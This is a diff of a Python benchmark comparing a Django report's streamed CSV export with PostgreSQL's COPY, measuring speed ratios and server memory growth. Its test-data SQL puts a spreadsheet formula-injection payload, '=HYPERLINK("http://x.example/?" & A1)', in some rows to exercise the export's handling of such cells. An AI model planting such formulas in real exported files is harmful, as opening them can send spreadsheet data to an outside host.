@@ -1,26 +1,22 @@
-"""CSV export of a large report over HTTP, against PostgreSQL's COPY of the same rows.
+"""CSV export of a large report over HTTP, against PostgreSQL's COPY of the same rows (P4).
 
-Fills the transactions table of a scratch database with N rows (1,000,000 by
-default) in one INSERT ... SELECT over generate_series, then in one run:
-  1. exports POST /api/v1/reports/transactions-report {"export_type": "csv"}
+Fills the transactions table of a throwaway database (`bench_reports_csv_export`)
+with N rows (200,000 with --size small, 1,000,000 with full) in one
+INSERT ... SELECT over generate_series, then, in interleaved rounds:
+  1. times `COPY (<the report's own SELECT>) TO STDOUT (FORMAT csv)` of the rows
+     through psycopg's `cursor.copy()`, reading every block (the baseline);
+  2. exports POST /api/v1/reports/transactions-report {"export_type": "csv"}
      through Django's test Client, reading the streamed response block by block
-     (the whole file is never held), and
-  2. times `COPY (<the report's own SELECT>) TO STDOUT (FORMAT csv)` of the same
-     rows through psycopg's `cursor.copy()`, reading every block as well;
-and prints both times, their ratio, and how much the process's memory grew
-during the export. Goals: within 5 times the COPY, and under 50 MB of growth.
+     (the whole file is never held), on both of the engine's CSV paths: `copy`, the
+     one PostgreSQL uses (the report's SELECT, cells shaped for CSV in SQL, run as
+     COPY and streamed), and `cursor`, the one for reports with masked columns
+     (batches from a server-side cursor written by csv.writer), forced here with
+     REPORT_CSV_COPY = False;
+and gives the medians' ratios (goal: within 3 times the COPY on either path) and
+the most this process, the server, grew in memory during any export (goal: under
+50 MB).
 
-The export is measured on both of the engine's CSV paths (`--path`): `copy`, the
-one PostgreSQL uses (the report's SELECT, cells shaped for CSV in SQL, run as
-COPY and streamed), and `cursor`, the one used elsewhere and for reports with
-masked columns (batches from a server-side cursor written by csv.writer), forced
-here with REPORT_CSV_COPY = False.
-
-Run from the project root against PostgreSQL (a scratch database
-`<name>_reports_bench` is created and dropped):
-    DATABASE_URL=postgres://postgres@127.0.0.1:5432/h_reports \\
-        .venv/bin/python bench/reports_csv_export.py [--rows 1000000] [--rounds 2] \\
-        [--path copy|cursor|both]
+    .venv/bin/python bench/reports_csv_export.py [--size small|full] [--rows N] [--rounds 3]
 """
 
 import argparse
@@ -28,14 +24,10 @@ import gc
 import json
 import os
 import resource
-import sys
 import time
-from pathlib import Path
 
-import django
-
-sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
-os.environ.setdefault("DJANGO_SETTINGS_MODULE", "config.settings")
+import common
+from common import Row
 
 REPORT = "transactions-report"
 URL = f"/api/v1/reports/{REPORT}"
@@ -44,7 +36,7 @@ FILL = """
 INSERT INTO recharge_transaction (
     reference, user_id, category, txn_type, amount, gross_amount, discount_amount, source,
     status, payment_method, service_type, phone_number, plan_id, offer_id, gateway,
-    gateway_reference, failure_reason, created_at, updated_at
+    gateway_reference, failure_reason, activation_mode, created_at, updated_at
 )
 SELECT
     gen_random_uuid(),
@@ -65,6 +57,7 @@ SELECT
     CASE WHEN n %% 3 = 0 THEN 'pay_' || n ELSE '' END,
     -- a cell a spreadsheet would run as a formula, now and then
     CASE WHEN n %% 50 = 0 THEN '=HYPERLINK("http://x.example/?" & A1)' ELSE '' END,
+    '',
     now() - (n || ' seconds')::interval,
     now()
 FROM generate_series(1, %(rows)s) AS n
@@ -176,74 +169,82 @@ def copy_same_rows(user, body: dict) -> tuple[float, int, int]:
     return time.perf_counter() - started, size, lines
 
 
-def main() -> None:
-    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
-    parser.add_argument("--rows", type=int, default=1_000_000)
-    parser.add_argument("--rounds", type=int, default=2, help="exports and COPYs (best is kept)")
-    parser.add_argument("--chunk", type=int, help="rows per fetch (reports.fetch.CHUNK)")
-    parser.add_argument("--path", choices=("copy", "cursor", "both"), default="both")
-    args = parser.parse_args()
-
-    django.setup()
+def run(args: argparse.Namespace) -> list[Row]:
     import logging
 
     from django.conf import settings
-    from django.db import connection
     from django.test import Client
     from django.test.utils import setup_test_environment
 
+    from accounts.models import User
     from reports import fetch
 
+    rows = args.rows or {"small": 200_000, "full": 1_000_000}[args.size]
     if args.chunk:
         fetch.CHUNK = args.chunk
     logging.disable(logging.CRITICAL)
-    if connection.vendor != "postgresql":
-        sys.exit("Set DATABASE_URL to a PostgreSQL database: the bench compares with its COPY.")
     setup_test_environment()
     settings.ALLOWED_HOSTS = ["*"]
     settings.REPORT_ASYNC_THRESHOLD = 10**12  # stream inline, however many rows
-    base_name = connection.settings_dict["NAME"]
-    connection.settings_dict.setdefault("TEST", {})["NAME"] = f"{base_name}_reports_bench"
-    old_name = connection.creation.create_test_db(verbosity=0, autoclobber=True)
-    try:
-        from accounts.models import User
 
-        started = time.perf_counter()
-        fill(args.rows)
-        print(f"filled {args.rows:,} transactions in {time.perf_counter() - started:.1f} s")
-        analyst = User.objects.create_superuser(
-            username="analyst", email="analyst@example.com", password="x" * 16
+    started = time.perf_counter()
+    fill(rows)
+    print(f"filled {rows:,} transactions in {time.perf_counter() - started:.1f} s")
+    analyst = User.objects.create_superuser(
+        username="analyst", email="analyst@example.com", password="x" * 16
+    )
+    client = Client()
+    client.force_login(analyst)
+    body = {"export_type": "csv", "order_by": "transaction_id"}
+    growth = {"copy": 0.0, "cursor": 0.0}
+
+    def baseline() -> float:
+        seconds, _, lines = copy_same_rows(analyst, body)
+        assert lines == rows + 1, lines
+        return seconds
+
+    def export(path: str) -> float:
+        settings.REPORT_CSV_COPY = path == "copy"
+        seconds, _, lines, resident, _ = export_over_http(client, body)
+        assert lines == rows + 1, lines
+        growth[path] = max(growth[path], resident)
+        return seconds
+
+    for path in growth:  # warm up: imports, first queries
+        settings.REPORT_CSV_COPY = path == "copy"
+        export_over_http(client, {**body, "limit": 1000})
+    samples = common.interleaved(
+        {"COPY": baseline, "copy": lambda: export("copy"), "cursor": lambda: export("cursor")},
+        args.rounds,
+    )
+    times = {name: common.median(values) for name, values in samples.items()}
+    for name, values in samples.items():
+        print(
+            f"{name:>7}: median {times[name]:6.2f} s, {rows / times[name]:,.0f} rows/s"
+            f"  (rounds: {common.spread(values, 2)})"
         )
-        client = Client()
-        client.force_login(analyst)
-        body = {"export_type": "csv", "order_by": "transaction_id"}
-        export_over_http(client, {**body, "limit": 1000})  # warm up: imports, first queries
+    print(f"resident growth during the exports, MB: {growth}; {fetch.CHUNK:,} rows per fetch")
+    return [
+        Row.at_most(
+            "P4",
+            f"CSV export over HTTP ({rows:,} rows) / COPY TO STDOUT",
+            common.paired_ratio(samples, "copy", "COPY"),
+            3,
+        ),
+        Row.at_most(
+            "P4",
+            "CSV export, masked-column (cursor) path / COPY TO STDOUT",
+            common.paired_ratio(samples, "cursor", "COPY"),
+            3,
+        ),
+        Row.at_most("P4", "server memory growth during an export", max(growth.values()), 50, " MB"),
+    ]
 
-        copies = [copy_same_rows(analyst, body) for _ in range(args.rounds)]
-        copy_seconds, copy_size, copy_lines = min(copies)
-        assert copy_lines == args.rows + 1, copy_lines
-        print(f"COPY ... TO STDOUT: {copy_seconds:.2f} s, {copy_size / 2**20:.1f} MiB")
-        for path in ("copy", "cursor") if args.path == "both" else (args.path,):
-            settings.REPORT_CSV_COPY = path == "copy"
-            exports = [export_over_http(client, body) for _ in range(args.rounds)]
-            seconds, size, lines, *_ = min(exports)
-            assert lines == args.rows + 1, lines
-            print(
-                f"[{path} path] HTTP CSV export: {seconds:.2f} s, {size / 2**20:.1f} MiB, "
-                f"{lines - 1:,} rows ({args.rows / seconds:,.0f} rows/s)"
-                + ("" if path == "copy" else f", {fetch.CHUNK:,} rows per fetch")
-            )
-            print(
-                f"[{path} path] ratio export/COPY: {seconds / copy_seconds:.2f} (goal: at most 5)"
-            )
-            print(
-                f"[{path} path] memory growth during the export: "
-                f"{max(export[3] for export in exports):.1f} MB resident at most "
-                f"(ru_maxrss grew {max(export[4] for export in exports):.1f} MB; goal: under 50)"
-            )
-    finally:
-        connection.creation.destroy_test_db(old_name, verbosity=0)
+
+def arguments(parser: argparse.ArgumentParser) -> None:
+    parser.add_argument("--rows", type=int, help="transactions (default by --size)")
+    parser.add_argument("--chunk", type=int, help="rows per fetch (reports.fetch.CHUNK)")
 
 
 if __name__ == "__main__":
-    main()
+    common.main(run, __doc__, name="reports_csv_export", arguments=arguments)
